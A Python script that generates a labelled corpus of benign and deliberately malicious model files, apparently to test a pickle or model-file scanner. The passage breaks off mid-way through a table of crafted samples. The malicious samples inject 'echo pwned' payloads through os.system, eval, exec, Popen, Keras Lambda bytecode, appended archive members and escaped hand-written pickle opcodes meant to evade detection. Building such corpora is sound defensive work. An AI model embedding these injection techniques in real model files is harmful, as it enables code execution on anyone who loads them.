"""Writes a labelled corpus of real-world model files into OUTDIR.

    python realworld.py OUTDIR

Benign files are written by the real libraries (NumPy, joblib, scikit-learn, pandas,
SciPy, safetensors, and Keras 3 when it is installed). Malicious files carry a payload
injected the way attackers do it; they are only ever *written* here, never loaded.

OUTDIR/manifest.json = {
    "python": "3.11.7", "versions": {"numpy": ..., "sklearn": ..., ...},
    "skipped": ["why something was left out", ...],
    "files": [{"file": "benign/numpy/float64.npy", "label": "benign"|"malicious",
               "family": "numpy", "kind": "short description",
               # malicious only: the callable the payload names, as pickle writes it
               # ("posix.system"; "__builtin__.exec" on protocols 0-2, which then also
               # carries "payload_resolves_to": "builtins.exec")
               "payload": "posix.system"}, ...]}

Deterministic: the script re-executes itself with PYTHONHASHSEED=0 and TZ=UTC, seeds every
random generator and pins the clock that zipfile/gzip stamp into archives, so two runs
with the same library versions write identical bytes, except: CountVectorizer and
TfidfVectorizer pickles hold `_stop_words_id = id(None)` (a memory address), and Keras'
metadata.json carries its own wall-clock date.
"""

import os
import sys

if os.environ.get("PYTHONHASHSEED") != "0" or os.environ.get("TZ") != "UTC":
    _env = dict(os.environ, PYTHONHASHSEED="0", TZ="UTC")
    os.execve(sys.executable, [sys.executable, os.path.abspath(__file__), *sys.argv[1:]], _env)

import _compat_pickle
import argparse
import collections
import datetime
import decimal
import fractions
import functools
import http
import io
import json
import operator
import pathlib
import pickle
import posixpath
import re
import subprocess
import time
import types
import uuid
import warnings
import zipfile
import zoneinfo

import joblib
import numpy as np
import pandas as pd
import scipy
import scipy.sparse as sp
import sklearn

warnings.filterwarnings("ignore")
time.tzset()

OUT = sys.argv[1] if len(sys.argv) == 2 else sys.exit("usage: realworld.py OUTDIR")
FILES = []
SKIPPED = []


# --------------------------------------------------------------------------- helpers


def _fixed_clock():
    """zipfile and gzip stamp time.time() into their headers; pin it for reproducible bytes."""
    fixed = 1704067200.0  # 2024-01-01T00:00:00Z
    time.time = lambda: fixed


def path(rel):
    full = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    return full


def record(rel, label, family, kind, payload=None):
    assert os.path.isfile(os.path.join(OUT, rel)), rel
    entry = {"file": rel, "label": label, "family": family, "kind": kind}
    if label == "malicious":
        assert payload, rel
        entry["payload"] = payload
        # Protocols 0-2 write Python 2 names (`__builtin__ exec`) that unpicklers map back.
        module, _, name = payload.rpartition(".")
        target = _compat_pickle.NAME_MAPPING.get((module, name))
        if target is None and module in _compat_pickle.IMPORT_MAPPING:
            target = (_compat_pickle.IMPORT_MAPPING[module], name)
        if target is not None:
            entry["payload_resolves_to"] = ".".join(target)
    FILES.append(entry)


def benign(rel, family, kind):
    record(rel, "benign", family, kind)


def malicious(rel, family, kind, payload):
    record(rel, "malicious", family, kind, payload)


def write_bytes(rel, data):
    with open(path(rel), "wb") as f:
        f.write(data)


def pickle_file(rel, obj, protocol):
    with open(path(rel), "wb") as f:
        pickle.dump(obj, f, protocol=protocol)


def dotted(func):
    return f"{func.__module__}.{func.__qualname__}"


# Payload helpers. Their __reduce__ makes pickle write a call to a dangerous callable;
# nothing in this script ever unpickles what they produce.


class Evil:
    """Pickles as os.system("echo pwned") -- pickle names it `posix system` on Linux."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


class EvilEval:
    def __reduce__(self):
        return (eval, ("__import__('os').system('echo pwned')",))


class EvilExec:
    def __reduce__(self):
        return (exec, ("import os; os.system('echo pwned')",))


class EvilPopen:
    def __reduce__(self):
        return (subprocess.Popen, (["echo", "pwned"],))


class Call:
    """Pickles as func(*args); func may itself be a Call, i.e. a value built at load time."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __call__(self, *args):  # pickle insists the reduce callable be callable
        raise RuntimeError("never called")

    def __reduce__(self):
        return (self.func, self.args)


SYSTEM = dotted(os.system)  # "posix.system" on Linux
assert pickle.dumps(Evil(), 0).startswith(f"c{os.system.__module__}\nsystem\n".encode())


# --------------------------------------------------------------------------- data

rng = np.random.default_rng(0)
N = 200
X = rng.normal(size=(N, 6))
y_cls = (X[:, 0] + 0.5 * X[:, 1] + rng.normal(scale=0.3, size=N) > 0).astype(np.int64)
y_reg = X @ np.arange(1.0, 7.0) + rng.normal(scale=0.1, size=N)
WORDS = "alpha beta gamma delta model weight tensor layer scan pickle safe load file data".split()
TEXTS = [" ".join(rng.choice(WORDS, size=8)) for _ in range(N)]
FRAME = pd.DataFrame(
    {
        "age": rng.integers(18, 90, size=N),
        "income": rng.normal(50_000, 10_000, size=N).round(2),
        "city": rng.choice(["paris", "berlin", "rome", "oslo"], size=N),
        "size": rng.choice(["S", "M", "L"], size=N),
    }
)


def sklearn_models():
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        ExtraTreesClassifier,
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        HistGradientBoostingRegressor,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import CountVectorizer, TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import LabelEncoder, OneHotEncoder, OrdinalEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    column = make_pipeline(
        ColumnTransformer(
            [
                ("onehot", OneHotEncoder(handle_unknown="ignore"), ["city"]),
                ("ordinal", OrdinalEncoder(), ["size"]),
                ("scale", StandardScaler(), ["age", "income"]),
            ]
        ),
        LogisticRegression(),
    )
    return {
        "scaler_logreg_pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y_cls),
        "column_transformer_pipeline": column.fit(FRAME, y_cls),
        "random_forest": RandomForestClassifier(n_estimators=8, max_depth=5, random_state=0).fit(X, y_cls),
        "extra_trees": ExtraTreesClassifier(n_estimators=8, max_depth=5, random_state=0).fit(X, y_cls),
        "gradient_boosting": GradientBoostingClassifier(n_estimators=10, random_state=0).fit(X, y_cls),
        "hist_gradient_boosting_classifier": HistGradientBoostingClassifier(max_iter=10, random_state=0).fit(
            X, y_cls
        ),
        "hist_gradient_boosting_regressor": HistGradientBoostingRegressor(max_iter=10, random_state=0).fit(
            X, y_reg
        ),
        "decision_tree": DecisionTreeClassifier(max_depth=5, random_state=0).fit(X, y_cls),
        "knn": KNeighborsClassifier().fit(X, y_cls),
        "svc": SVC(probability=True, random_state=0).fit(X, y_cls),
        "pca": PCA(n_components=3, random_state=0).fit(X),
        "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(X),
        "isolation_forest": IsolationForest(n_estimators=10, random_state=0).fit(X),
        "mlp": MLPClassifier(hidden_layer_sizes=(16,), max_iter=100, random_state=0).fit(X, y_cls),
        "tfidf": TfidfVectorizer().fit(TEXTS),
        "count_vectorizer": CountVectorizer(ngram_range=(1, 2)).fit(TEXTS),
        "label_encoder": LabelEncoder().fit(FRAME["city"]),
    }


def stdlib_values():
    tz2 = datetime.timezone(datetime.timedelta(hours=2), "CEST")
    return {
        "datetime": datetime.datetime(2024, 5, 17, 12, 30, 15, 250),
        "datetime_utc": datetime.datetime(2024, 5, 17, 12, 30, tzinfo=datetime.timezone.utc),
        "datetime_offset": datetime.datetime(2024, 5, 17, 12, 30, tzinfo=tz2),
        "datetime_zoneinfo": datetime.datetime(2024, 5, 17, tzinfo=zoneinfo.ZoneInfo("Europe/Paris")),
        "date": datetime.date(2024, 5, 17),
        "time": datetime.time(12, 30, 15),
        "timedelta": datetime.timedelta(days=1, seconds=5),
        "timezone": tz2,
        "decimal": decimal.Decimal("3.14159"),
        "fraction": fractions.Fraction(3, 7),
        "complex": complex(1.5, -2),
        "counter": collections.Counter("mississippi"),
        "deque": collections.deque([1, 2, 3], maxlen=5),
        "defaultdict": collections.defaultdict(list, {"a": [1]}),
        "ordereddict": collections.OrderedDict([("b", 1), ("a", 2)]),
        "set": {1, 2, 3},
        "frozenset": frozenset({"x", "y"}),
        "bytes": b"\x00\x01raw",
        "bytearray": bytearray(b"abc"),
        "range": range(0, 10, 2),
        "slice": slice(1, None, 2),
        "namespace": argparse.Namespace(lr=0.1, epochs=3, name="run"),
        "pattern": re.compile(r"\d+", re.IGNORECASE),
        "purepath": pathlib.PurePosixPath("/models/x.pkl"),
        "path": pathlib.PosixPath("/models/x.pkl"),
        "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
        "regexflag": re.RegexFlag.IGNORECASE,
        "httpstatus": http.HTTPStatus.OK,
        "partial_int": functools.partial(int, base=2),
        "itemgetter": operator.itemgetter(1),
        "attrgetter": operator.attrgetter("real"),
        "simple_namespace": types.SimpleNamespace(a=1),
        "nan": float("nan"),
        "bigint": 2**100,
        "none_true_ellipsis": (None, True, Ellipsis),
    }


# --------------------------------------------------------------------------- benign


def write_numpy():
    fam = "numpy"
    arrays = {
        "float64": rng.normal(size=300),
        "float32_fortran": np.asfortranarray(rng.normal(size=(20, 15)).astype(np.float32)),
        "int64": np.arange(300, dtype=np.int64),
        "bool": rng.random(100) > 0.5,
        "unicode": np.array(["alpha", "beta", "gamma"]),
        "bytes": np.array([b"ab", b"cde"]),
        "datetime64": np.arange("2024-01-01", "2024-02-01", dtype="datetime64[D]"),
        "timedelta64": np.arange(10).astype("timedelta64[ms]"),
        "structured": np.zeros(5, dtype=[("id", "<i4"), ("score", "<f8"), ("tag", "S4")]),
        "bigendian": np.arange(50, dtype=">f8"),
        "float16": np.linspace(0, 1, 64, dtype=np.float16),
        "complex128": np.arange(20) * (1 + 2j),
        "empty": np.zeros((0, 3)),
        "scalar0d": np.array(3.5),
    }
    for name, arr in arrays.items():
        rel = f"benign/numpy/{name}.npy"
        np.save(path(rel), arr)
        benign(rel, fam, f"np.save {arr.dtype} {arr.shape}")
    objects = np.array([{"lr": 0.1, "layers": [64, 32]}, "label", None, 3, [1, 2]], dtype=object)
    rel = "benign/numpy/object_dicts.npy"
    np.save(path(rel), objects, allow_pickle=True)
    benign(rel, fam, "np.save object array (dicts, strings, lists) -> pickle in .npy")
    rel = "benign/numpy/object_strings.npy"
    np.save(path(rel), np.array(["a", "bb", "ccc"], dtype=object), allow_pickle=True)
    benign(rel, fam, "np.save object array of str")
    several = {
        "weights": rng.normal(size=(30, 10)).astype(np.float32),
        "bias": np.zeros(10),
        "labels": np.array(["cat", "dog"]),
        "meta": np.array([{"epoch": 3}, "v1"], dtype=object),
        "steps": np.arange(100, dtype=np.int32),
    }
    rel = "benign/numpy/savez.npz"
    np.savez(path(rel), **several)
    benign(rel, fam, "np.savez several arrays incl. object array (zip64 extras, stored)")
    rel = "benign/numpy/savez_compressed.npz"
    np.savez_compressed(path(rel), **several)
    benign(rel, fam, "np.savez_compressed several arrays incl. object array (deflated)")
    rel = "benign/numpy/savez_positional.npz"
    np.savez(path(rel), np.arange(10), np.ones((2, 2)))
    benign(rel, fam, "np.savez positional arrays arr_0, arr_1")
    rel = "benign/numpy/savez_big.npz"
    np.savez(path(rel), big=rng.normal(size=262_144).astype(np.float32), small=np.arange(3))
    benign(rel, fam, "np.savez with a 1 MiB float32 array")
    rel = "benign/numpy/savez_compressed_big.npz"
    np.savez_compressed(path(rel), big=np.tile(np.arange(1024, dtype=np.float64), 64))
    benign(rel, fam, "np.savez_compressed with a 512 KiB array")
    # Found in review: a field named 'O' is not an object dtype; 80 MB of zeros compresses
    # far past 1000:1 and is an array, not a bomb.
    rel = "benign/numpy/ohlc_fields.npy"
    np.save(path(rel), np.zeros(4, dtype=[("O", "<f8"), ("H", "<f8"), ("L", "<f8"), ("C", "<f8")]))
    benign(rel, fam, "np.save structured array with a field named 'O'")
    rel = "benign/numpy/zeros_compressed.npz"
    np.savez_compressed(path(rel), z=np.zeros(10**7))
    benign(rel, fam, "np.savez_compressed of 80 MB of zeros")
    for p in (2, 5):
        rel = f"benign/numpy/pickled_arrays.p{p}.pkl"
        pickle_file(rel, {"a": arrays["float64"], "s": arrays["structured"], "o": objects}, p)
        benign(rel, fam, f"pickle.dump of ndarrays, protocol {p}")


def joblib_payload():
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    return {
        "model": make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y_cls),
        "float32": np.arange(1000, dtype=np.float32).reshape(10, 100),
        "fortran": np.asfortranarray(rng.normal(size=(8, 5))),
        "int8": np.arange(-50, 50, dtype=np.int8),
        "bool": rng.random(40) > 0.5,
        "datetime64": np.array(["2020-01-01", "2021-06-30"], dtype="datetime64[D]"),
        "records": np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]),
        "unicode": np.array(["abc", "de"]),
        "objects": np.array([{"a": 1}, "x", 3], dtype=object),
        "empty": np.zeros((0, 3)),
        "noncontiguous": np.arange(100.0)[::3],
    }


def write_joblib():
    fam = "joblib"
    obj = joblib_payload()
    rel = "benign/joblib/plain.joblib"
    joblib.dump(obj, path(rel))
    benign(rel, fam, "joblib.dump, no compression (arrays written inline, mmap-aligned)")
    for p in (2, 3, 4, 5):
        rel = f"benign/joblib/protocol{p}.joblib"
        joblib.dump(obj, path(rel), protocol=p)
        benign(rel, fam, f"joblib.dump protocol={p}")
    codecs = ["zlib", "gzip", "bz2", "xz", "lzma"]
    try:
        import lz4  # noqa: F401

        codecs.append("lz4")
    except ImportError:
        SKIPPED.append("joblib lz4 compression: the lz4 package is not installed")
    for codec in codecs:
        rel = f"benign/joblib/{codec}.joblib"
        joblib.dump(obj, path(rel), compress=(codec, 3))
        benign(rel, fam, f"joblib.dump compress=('{codec}', 3)")
    rel = "benign/joblib/compress_true.joblib"
    joblib.dump(obj, path(rel), compress=True)
    benign(rel, fam, "joblib.dump compress=True (zlib 3)")
    rel = "benign/joblib/zlib9_protocol2.joblib"
    joblib.dump(obj, path(rel), compress=9, protocol=2)
    benign(rel, fam, "joblib.dump compress=9 protocol=2")
    rel = "benign/joblib/by_extension.pkl.gz"
    joblib.dump(obj, path(rel))
    benign(rel, fam, "joblib.dump, compressor picked from the .gz extension")
    big = {"embedding": rng.normal(size=(512, 256)).astype(np.float32), "ids": np.arange(512)}
    rel = "benign/joblib/mmap_big.joblib"
    joblib.dump(big, path(rel))
    benign(rel, fam, "joblib.dump of a 512 KiB array (mmap_mode-friendly layout)")
    rel = "benign/joblib/single_array.joblib"
    joblib.dump(np.arange(2000, dtype=np.float64), path(rel))
    benign(rel, fam, "joblib.dump of a bare ndarray")
    rel = "benign/joblib/scalars.joblib"
    joblib.dump({"n": 3, "names": ["a", "b"], "lr": np.float64(0.01)}, path(rel))
    benign(rel, fam, "joblib.dump of plain Python values and a NumPy scalar")
    # Found in review: a structured array with an object field is pickled by joblib.
    mixed = np.array([({"k": 1}, 3), ("x", 4)], dtype=[("a", "O"), ("b", "<i8")])
    for codec in (None, "zlib", "xz"):
        rel = f"benign/joblib/structured_object_field.{codec or 'raw'}.joblib"
        joblib.dump({"m": mixed}, path(rel), compress=(codec, 3) if codec else 0)
        benign(rel, fam, f"joblib.dump structured array with an object field, compress={codec}")


def write_sklearn():
    fam = "sklearn"
    for name, model in sklearn_models().items():
        for p in range(6):
            rel = f"benign/sklearn/{name}.p{p}.pkl"
            pickle_file(rel, model, p)
            benign(rel, fam, f"pickle.dump {type(model).__name__} protocol {p}")
        rel = f"benign/sklearn/{name}.joblib"
        joblib.dump(model, path(rel))
        benign(rel, fam, f"joblib.dump {type(model).__name__}")


def pandas_objects():
    n = 100
    df = pd.DataFrame(
        {
            "int": np.arange(n, dtype=np.int64),
            "float": rng.normal(size=n),
            "str": [f"row{i}" for i in range(n)],
            "object": pd.Series([{"k": i} if i % 3 else None for i in range(n)], dtype=object),
            "category": pd.Categorical(rng.choice(["low", "mid", "high"], size=n)),
            "dt_paris": pd.date_range("2024-01-01", periods=n, freq="h", tz="Europe/Paris"),
            "dt_utc": pd.date_range("2024-01-01", periods=n, freq="D", tz="UTC"),
            "dt_naive": pd.date_range("2024-01-01", periods=n, freq="min"),
            "timedelta": pd.to_timedelta(np.arange(n), unit="s"),
            "bool": rng.random(n) > 0.5,
            "Int64": pd.array([i if i % 7 else None for i in range(n)], dtype="Int64"),
            "boolean": pd.array([bool(i % 2) if i % 5 else None for i in range(n)], dtype="boolean"),
            "Float64": pd.array([i / 3 if i % 4 else None for i in range(n)], dtype="Float64"),
            "period": pd.period_range("2024-01", periods=n, freq="M"),
            "interval": pd.interval_range(0, n),
        }
    )
    multi = pd.MultiIndex.from_product([["a", "b"], [1, 2, 3]], names=["letter", "num"])
    return {
        "dataframe": df,
        "series": pd.Series(rng.normal(size=50), index=pd.date_range("2024-01-01", periods=50), name="s"),
        "index": pd.Index(["x", "y", "z"]),
        "multiindex": multi,
        "multiindex_frame": pd.DataFrame(rng.normal(size=(6, 2)), index=multi, columns=["u", "v"]),
    }


def write_pandas():
    fam = "pandas"
    objs = pandas_objects()
    for name, obj in objs.items():
        rel = f"benign/pandas/{name}.to_pickle.pkl"
        pd.to_pickle(obj, path(rel))
        benign(rel, fam, f"pandas.to_pickle({type(obj).__name__}) default")
    df = objs["dataframe"]
    for comp, ext in [("gzip", "gz"), ("bz2", "bz2"), ("xz", "xz"), ("zip", "zip"), ("tar", "tar")]:
        rel = f"benign/pandas/dataframe.to_pickle.pkl.{ext}"
        try:
            df.to_pickle(path(rel), compression=comp)
        except Exception as exc:  # pragma: no cover - depends on the pandas build
            SKIPPED.append(f"pandas to_pickle compression={comp}: {exc!r}")
            continue
        benign(rel, fam, f"DataFrame.to_pickle(compression='{comp}')")
    for p in range(6):
        rel = f"benign/pandas/dataframe.p{p}.pkl"
        pickle_file(rel, df, p)
        benign(rel, fam, f"pickle.dump DataFrame protocol {p}")
    for name in ("series", "multiindex"):
        rel = f"benign/pandas/{name}.p2.pkl"
        pickle_file(rel, objs[name], 2)
        benign(rel, fam, f"pickle.dump {type(objs[name]).__name__} protocol 2")


def write_scipy():
    fam = "scipy"
    dense = np.where(rng.random((20, 30)) > 0.8, rng.normal(size=(20, 30)), 0.0)
    kinds = {
        "csr_matrix": sp.csr_matrix(dense),
        "csc_matrix": sp.csc_matrix(dense),
        "coo_matrix": sp.coo_matrix(dense),
        "csr_array": sp.csr_array(dense),
        "csc_array": sp.csc_array(dense),
        "coo_array": sp.coo_array(dense),
    }
    for name, m in kinds.items():
        for p in (0, 2, 4, 5):
            rel = f"benign/scipy/{name}.p{p}.pkl"
            pickle_file(rel, m, p)
            benign(rel, fam, f"pickle.dump scipy.sparse {name} protocol {p}")
    rel = "benign/scipy/sparse.joblib"
    joblib.dump(kinds, path(rel))
    benign(rel, fam, "joblib.dump dict of sparse matrices/arrays")
    for name, comp in [("csr_matrix", True), ("coo_array", False)]:
        rel = f"benign/scipy/{name}.save_npz{'_compressed' if comp else ''}.npz"
        sp.save_npz(path(rel), kinds[name], compressed=comp)
        benign(rel, fam, f"scipy.sparse.save_npz({name}, compressed={comp})")


def write_stdlib():
    fam = "stdlib"
    values = stdlib_values()
    for p in range(6):
        rel = f"benign/stdlib/values.p{p}.pkl"
        pickle_file(rel, values, p)
        benign(rel, fam, f"pickle.dump inert stdlib values (datetime, Decimal, collections, ...) protocol {p}")


def write_safetensors():
    try:
        from safetensors.numpy import save_file
    except ImportError:
        SKIPPED.append("safetensors: not installed")
        return
    rel = "benign/safetensors/model.safetensors"
    save_file(
        {"embed.weight": rng.normal(size=(64, 16)).astype(np.float32), "head.bias": np.zeros(4, np.float16)},
        path(rel),
        metadata={"format": "np"},
    )
    benign(rel, "safetensors", "safetensors.numpy.save_file")


def keras_module():
    os.environ.setdefault("KERAS_BACKEND", "numpy")
    try:
        import keras
    except Exception as exc:
        SKIPPED.append(f"keras: cannot import ({type(exc).__name__}: {exc})")
        return None
    return keras


def write_keras(keras):
    fam = "keras"
    model = keras.Sequential(
        [keras.Input((8,)), keras.layers.Dense(16, activation="relu"), keras.layers.Dense(3, activation="softmax")]
    )
    rel = "benign/keras/sequential.keras"
    model.save(path(rel))
    benign(rel, fam, f"keras {keras.__version__} Sequential.save (.keras zip: config.json + weights.h5)")
    # Malicious: a Lambda layer whose marshalled bytecode runs a shell command on load
    # (safe_mode=False). The model is built with a harmless lambda, then config.json is
    # rewritten with the bytecode of an evil one -- marshal only, nothing is run here.
    from keras.src.utils.python_utils import func_dump

    harmless = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x), keras.layers.Dense(1)])
    buf = path("malicious/keras/_tmp.keras")
    harmless.save(buf)
    evil_code, _, _ = func_dump(lambda x: __import__("os").system("echo pwned") or x)
    rel = "malicious/keras/lambda_layer.keras"
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path(rel), "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "config.json":
                config = json.loads(data)
                for layer in config["config"]["layers"]:
                    if layer["class_name"] == "Lambda":
                        layer["config"]["function"]["config"]["code"] = evil_code
                data = json.dumps(config).encode()
            dst.writestr(info, data)
    os.remove(buf)
    malicious(rel, fam, "keras Lambda layer with marshalled bytecode calling os.system (config.json)", "os.system")


# --------------------------------------------------------------------------- malicious


def write_malicious_numpy():
    fam = "numpy"
    evil_arr = np.array([1.5, "label", Evil()], dtype=object)
    rel = "malicious/numpy/object_array.npy"
    np.save(path(rel), evil_arr, allow_pickle=True)
    malicious(rel, fam, "(a) np.save object array whose element reduces to os.system", SYSTEM)
    rel = "malicious/numpy/object_array_nested_dict.npy"
    np.save(path(rel), np.array([{"cfg": {"hook": Evil()}}], dtype=object), allow_pickle=True)
    malicious(rel, fam, "(a) np.save object array, payload nested in a dict element", SYSTEM)
    rel = "malicious/numpy/header_then_bare_pickle.npy"
    with open(path(rel), "wb") as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "|O", "fortran_order": False, "shape": (1,)})
        pickle.dump(Evil(), f, protocol=2)
    malicious(rel, fam, "(a) .npy object-dtype header followed by a bare payload pickle", SYSTEM)
    rel = "malicious/numpy/savez_object_member.npz"
    np.savez(path(rel), weights=np.ones(10), meta=evil_arr)
    malicious(rel, fam, "(a) np.savez with an object-array member carrying the payload", SYSTEM)
    rel = "malicious/numpy/savez_compressed_object_member.npz"
    np.savez_compressed(path(rel), weights=np.ones(10), meta=evil_arr)
    malicious(rel, fam, "(a) np.savez_compressed with an object-array member carrying the payload", SYSTEM)
    member = io.BytesIO()
    np.lib.format.write_array(member, np.array([Evil()], dtype=object), allow_pickle=True)
    for name, compression, zip64 in [
        ("appended_member", zipfile.ZIP_STORED, False),
        ("appended_member_deflated_zip64", zipfile.ZIP_DEFLATED, True),
    ]:
        rel = f"malicious/numpy/savez_{name}.npz"
        np.savez(path(rel), weights=rng.normal(size=(10, 10)), bias=np.zeros(10))
        with zipfile.ZipFile(path(rel), "a", compression=compression) as z:
            with z.open("hook.npy", "w", force_zip64=zip64) as f:
                f.write(member.getvalue())
        malicious(rel, fam, f"(b) benign np.savez + appended hook.npy payload member ({name})", SYSTEM)


def write_malicious_joblib():
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    fam = "joblib"
    scaler = StandardScaler().fit(X)
    bypass = {"scaler": scaler, "hook": Evil()}
    rel = "malicious/joblib/scaler_then_hook.joblib"
    joblib.dump(bypass, path(rel))
    malicious(rel, fam, "(c) joblib {'scaler': fitted StandardScaler, 'hook': Evil()} (payload after raw array bytes)", SYSTEM)
    for codec in ("zlib", "gzip", "bz2", "xz", "lzma"):
        rel = f"malicious/joblib/scaler_then_hook.{codec}.joblib"
        joblib.dump(bypass, path(rel), compress=(codec, 3))
        malicious(rel, fam, f"(c) joblib scaler+hook, compress={codec}", SYSTEM)
    rel = "malicious/joblib/scaler_then_hook.protocol2.joblib"
    joblib.dump(bypass, path(rel), protocol=2)
    malicious(rel, fam, "(c) joblib scaler+hook, protocol 2", SYSTEM)
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y_cls)
    pipe.steps.append(("hook", Evil()))
    for suffix, compress in [("", 0), (".zlib", ("zlib", 3)), (".xz", ("xz", 3))]:
        rel = f"malicious/joblib/pipeline_with_hook{suffix}.joblib"
        joblib.dump(pipe, path(rel), compress=compress)
        malicious(rel, fam, f"(c) joblib fitted Pipeline with Evil() appended as a step{suffix}", SYSTEM)
    rel = "malicious/joblib/object_array.joblib"
    joblib.dump({"a": np.ones(10), "objs": np.array([Evil()], dtype=object)}, path(rel))
    malicious(rel, fam, "joblib object ndarray holding the payload", SYSTEM)
    rel = "malicious/joblib/eval_payload.joblib"
    joblib.dump({"w": np.ones(100), "hook": EvilEval()}, path(rel))
    malicious(rel, fam, "joblib dict: array then builtins.eval payload", "builtins.eval")
    rel = "malicious/joblib/then_pickle.joblib"
    joblib.dump({"scaler": scaler}, path(rel))
    with open(path(rel), "ab") as f:
        pickle.dump(Evil(), f, protocol=4)
    malicious(rel, fam, "(f) benign joblib dump followed by a second, malicious pickle", SYSTEM)


def write_malicious_sklearn():
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    fam = "sklearn"
    clf = LogisticRegression().fit(X, y_cls)
    clf.__dict__["_callbacks"] = Evil()
    for p in (0, 2, 4, 5):
        rel = f"malicious/sklearn/logreg_attribute.p{p}.pkl"
        pickle_file(rel, clf, p)
        malicious(rel, fam, f"(d) LogisticRegression with payload in an attribute, protocol {p}", SYSTEM)
    rel = "malicious/sklearn/logreg_attribute.joblib"
    joblib.dump(clf, path(rel))
    malicious(rel, fam, "(d) joblib LogisticRegression with payload in an attribute", SYSTEM)
    forest = RandomForestClassifier(n_estimators=4, max_depth=3, random_state=0).fit(X, y_cls)
    forest.estimators_[2] = Evil()
    for p in (2, 5):
        rel = f"malicious/sklearn/forest_member.p{p}.pkl"
        pickle_file(rel, forest, p)
        malicious(rel, fam, f"(d) RandomForest with one fitted tree replaced by the payload, protocol {p}", SYSTEM)
    ct = ColumnTransformer(
        [("onehot", OneHotEncoder(), ["city"]), ("scale", StandardScaler(), ["age", "income"])]
    ).fit(FRAME)
    name, _, cols = ct.transformers_[1]
    ct.transformers_[1] = (name, EvilPopen(), cols)
    rel = "malicious/sklearn/column_transformer_popen.p4.pkl"
    pickle_file(rel, ct, 4)
    malicious(rel, fam, "(d) ColumnTransformer whose fitted transformer is a subprocess.Popen payload", "subprocess.Popen")


def write_malicious_pandas():
    fam = "pandas"
    df = pd.DataFrame({"a": np.arange(4), "b": pd.Series(["x", "y", Evil(), "z"], dtype=object)})
    rel = "malicious/pandas/object_column.to_pickle.pkl"
    df.to_pickle(path(rel))
    malicious(rel, fam, "(e) DataFrame.to_pickle with Evil() in an object column", SYSTEM)
    rel = "malicious/pandas/object_column.to_pickle.pkl.gz"
    df.to_pickle(path(rel), compression="gzip")
    malicious(rel, fam, "(e) DataFrame.to_pickle(compression='gzip') with Evil() in an object column", SYSTEM)
    rel = "malicious/pandas/object_column.to_pickle.pkl.zip"
    df.to_pickle(path(rel), compression="zip")
    malicious(rel, fam, "(e) DataFrame.to_pickle(compression='zip') with Evil() in an object column", SYSTEM)
    rel = "malicious/pandas/object_column.p2.pkl"
    pickle_file(rel, df, 2)
    malicious(rel, fam, "(e) pickle.dump protocol 2 of a DataFrame with Evil() in an object column", SYSTEM)


def write_malicious_crafted():
    fam = "crafted"
    model = sklearn_models_small()
    for p in (2, 4):
        rel = f"malicious/crafted/concatenated.p{p}.pkl"
        write_bytes(rel, pickle.dumps(model, protocol=p) + pickle.dumps(Evil(), protocol=p))
        malicious(rel, fam, f"(f) benign pickle followed by a second malicious pickle, protocol {p}", SYSTEM)
    rel = "malicious/crafted/concatenated_npy_style.pkl"
    write_bytes(rel, pickle.dumps({"step": 1}, protocol=0) + pickle.dumps(EvilExec(), protocol=0))
    malicious(rel, fam, "(f) protocol-0 pickle followed by a protocol-0 exec payload", "__builtin__.exec")

    # (g) hand-written opcodes: the names are escaped string literals resolved by STACK_GLOBAL.
    crafted = {
        "s_hex_escape_stack_global": (
            b"S'o\\x73'\nS'system'\n\x93(S'echo pwned'\ntR.",
            "os.system",
            "S'o\\x73' + S'system' + STACK_GLOBAL in a protocol-0 stream",
        ),
        "s_octal_escape_memo": (
            b"S'p\\157six'\np0\n0S'sys\\x74em'\np1\n0g0\ng1\n\x93(S'echo pwned'\ntR.",
            "posix.system",
            "octal/hex escapes, PUT+POP then GET before STACK_GLOBAL (protocol 0)",
        ),
        "v_unicode_escape": (
            b"V\\u006fs\nVsyst\\u0065m\n\x93(Vecho pwned\ntR.",
            "os.system",
            "UNICODE opcode with raw-unicode-escape \\u escapes + STACK_GLOBAL",
        ),
        "s_escape_builtins_eval": (
            b"S'built\\x69ns'\nS'ev\\x61l'\n\x93(S'__import__(\\'os\\').system(\\'echo pwned\\')'\ntR.",
            "builtins.eval",
            "escaped builtins/eval names + STACK_GLOBAL, escaped quotes in the argument",
        ),
        "global_plain": (
            b"cos\nsystem\n(S'echo pwned'\ntR.",
            "os.system",
            "protocol-0 GLOBAL os system + REDUCE",
        ),
        "inst_opcode": (
            b"(S'echo pwned'\nios\nsystem\n.",
            "os.system",
            "protocol-0 INST opcode calling os.system",
        ),
        "obj_opcode": (
            b"(cos\nsystem\nS'echo pwned'\no.",
            "os.system",
            "protocol-1 OBJ opcode calling os.system",
        ),
        "binunicode_memo_binget": (
            b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94"
            + b"00"
            + b"h\x00h\x01\x93\x8c\x0aecho pwned\x85R.",
            "os.system",
